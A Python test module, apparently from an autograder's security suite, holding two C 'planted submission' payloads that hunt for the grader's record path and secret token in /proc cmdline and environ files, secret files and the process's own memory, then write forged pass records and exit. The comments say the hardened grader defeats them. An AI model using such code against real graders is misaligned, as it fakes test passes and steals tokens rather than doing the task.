"""forge.py — the C code of the planted record forgery (issue 36), shared by the lab 01 and
lab 10 planted submissions: it looks for the grader's record path and token wherever earlier
graders let them be seen (every /proc/PID/cmdline and /proc/PID/environ it can read, the test
folder's secret files), writes a forged record for the running test with whatever it found,
and _exit(0)s. The grader must leave it nothing to find: the test then fails (it never
reached its end), and never passes.
"""
FORGE = r'''
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
/* PLANTED: hunt for "PATH TOKEN" of the record and forge it */
static int planted_find(const char *buf, size_t n, char *rec, size_t cap) {
    for (size_t i = 0; i + 5 < n; i++)
        if (!strncmp(buf + i, "/rec/", 5)) {
            size_t s = i;
            while (s > 0 && buf[s - 1] != '\0' && buf[s - 1] != '=' && buf[s - 1] != '\n') s--;
            size_t e = i;
            while (e < n && buf[e] != '\0' && buf[e] != '\n') e++;
            if (e - s < cap) { memcpy(rec, buf + s, e - s); rec[e - s] = '\0'; return 1; }
        }
    return 0;
}
static int planted_scan(const char *path, char *rec, size_t cap) {
    char buf[65536];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    return n > 0 && planted_find(buf, (size_t)n, rec, cap);
}
static void planted_forge(void) {
    char rec[1024] = "", p[512], test[512] = "";
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && !rec[0] && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
        if (planted_scan(p, rec, sizeof rec)) break;
        snprintf(p, sizeof p, "/proc/%s/environ", e->d_name);
        if (planted_scan(p, rec, sizeof rec)) break;
    }
    if (d) closedir(d);
    const char *home = getenv("HOME");
    for (int r = 0; home && !rec[0] && r < 8; r++) {
        snprintf(p, sizeof p, "%s/../sec/%d", home, r);
        planted_scan(p, rec, sizeof rec);
    }
    int fd = open("/proc/self/cmdline", O_RDONLY);
    char cl[4096];
    ssize_t n = fd >= 0 ? read(fd, cl, sizeof cl - 1) : 0;
    if (fd >= 0) close(fd);
    for (ssize_t i = 0; i + 9 < n; i++)
        if (!strcmp(cl + i, "--filter")) { snprintf(test, sizeof test, "%s", cl + i + 9); break; }
    char *sl = strchr(test, '/');
    if (sl) { memmove(sl + 2, sl + 1, strlen(sl + 1) + 1); sl[0] = ':'; sl[1] = ':'; }
    fprintf(stderr, "planted forge_record: found '%s' for '%s'\n", rec, test);
    char *sp = strchr(rec, ' ');
    if (sp && test[0]) {
        *sp = '\0';
        FILE *f = fopen(rec, "a");
        if (f) { fprintf(f, "%s %s\n", test, sp + 1); fclose(f); }
    }
    _exit(0);
}
'''

# The in-memory forgery (issue 36's last item): no secret is needed from outside. The code
# under test reads /proc/self/maps, scans every writable mapping of its own process for
# what the harness keeps there (the record's path, "/tmp/kiln-grade.*/rec/<hex>", and its
# token, a NUL-terminated 32-digit hex word), appends "suite::name TOKEN" for every
# candidate token and a TAP "ok" line to every candidate path, and _exit(0)s: in a process
# that runs the verdict's own code, the pass is forged. Under the checker (rubric tag
# `checked`) the verdict comes from the staff's build reading the results this process
# wrote (none): the forgery earns nothing. No forbidden symbol: open, read, write, _exit.
MEMFORGE = r'''
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
/* PLANTED: forge the pass from inside the process, from what the harness holds in memory */
static int planted_hex32(const char *p) {
    for (int i = 0; i < 32; i++)
        if (!((p[i] >= '0' && p[i] <= '9') || (p[i] >= 'a' && p[i] <= 'f'))) return 0;
    return p[32] == '\0';
}
static void planted_memforge(void) {
    static char paths[16][600], toks[16][33];
    int np = 0, nt = 0;
    char test[512] = "", cl[4096], me[64];
    /* the test's name: --filter on this process's command line (an MPI rank) or its
     * parent's (Criterion's runner starts the worker without it) */
    for (int who = 0; who < 2 && !test[0]; who++) {
        snprintf(me, sizeof me, who ? "/proc/%d/cmdline" : "/proc/self/cmdline", (int)getppid());
        int fd = open(me, O_RDONLY);
        ssize_t n = fd >= 0 ? read(fd, cl, sizeof cl - 1) : 0;
        if (fd >= 0) close(fd);
        if (n > 0) cl[n] = '\0';
        for (ssize_t i = 0; i + 9 < n; i++)
            if (!strcmp(cl + i, "--filter")) { snprintf(test, sizeof test, "%s", cl + i + 9); break; }
    }
    char *sl = strchr(test, '/');
    if (sl) { memmove(sl + 2, sl + 1, strlen(sl + 1) + 1); sl[0] = ':'; sl[1] = ':'; }
    FILE *m = fopen("/proc/self/maps", "r");
    char line[512];
    while (m && fgets(line, sizeof line, m)) {
        unsigned long lo, hi;
        char perm[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) != 3 || perm[0] != 'r' || perm[1] != 'w') continue;
        if (strstr(line, "[vvar") || strstr(line, "[vsys")) continue;
        const char *p = (const char *)lo;
        for (unsigned long i = 0; i + 40 < hi - lo; i++) {
            if (p[i] == '/' && !strncmp(p + i, "/tmp/kiln-grade.", 16) && np < 16 && (i == 0 || p[i - 1] == '\0')) {
                size_t l = strnlen(p + i, hi - lo - i);
                if (l < 600 && strstr(p + i, "/rec/")) {
                    int dup = 0;
                    for (int k = 0; k < np; k++) dup |= !strcmp(paths[k], p + i);
                    if (!dup) memcpy(paths[np++], p + i, l + 1);
                }
            }
            if ((i == 0 || p[i - 1] == '\0') && i + 33 <= hi - lo && nt < 16 && planted_hex32(p + i)) {
                int dup = 0;
                for (int k = 0; k < nt; k++) dup |= !strcmp(toks[k], p + i);
                if (!dup) memcpy(toks[nt++], p + i, 33);
            }
        }
    }
    if (m) fclose(m);
    fprintf(stderr, "planted memforge: %d path(s), %d token(s) in memory for '%s'\n", np, nt, test);
    for (int k = 0; k < np && test[0]; k++) {
        int f = open(paths[k], O_WRONLY | O_APPEND);
        if (f < 0) continue;
        char out[800];
        for (int t = 0; t < nt; t++) {
            int len = snprintf(out, sizeof out, "%s %s\n", test, toks[t]);
            if (write(f, out, (size_t)len) < 0) break;
        }
        int len = snprintf(out, sizeof out, "ok - %s\n", test);
        if (write(f, out, (size_t)len) < 0) { /* nothing to do */ }
        close(f);
    }
    sleep(1); /* MPI: let the other ranks forge theirs before this exit ends the job */
    _exit(0);
}
'''
